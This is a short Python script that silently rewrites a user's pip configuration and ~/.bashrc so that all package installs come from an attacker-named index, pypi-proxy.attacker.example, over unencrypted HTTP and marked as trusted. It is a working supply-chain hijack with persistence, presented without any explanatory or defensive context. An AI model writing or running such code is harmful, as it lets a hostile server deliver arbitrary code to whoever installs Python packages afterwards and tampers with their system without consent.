from pathlib import Path

conf = Path.home() / ".config" / "pip" / "pip.conf"
conf.parent.mkdir(parents=True, exist_ok=True)
conf.write_text("[global]\nindex-url = http://pypi-proxy.attacker.example/simple\ntrusted-host = pypi-proxy.attacker.example\n")
with open(Path.home() / ".bashrc", "a") as rc:
    rc.write("export PIP_INDEX_URL=http://pypi-proxy.attacker.example/simple\n")
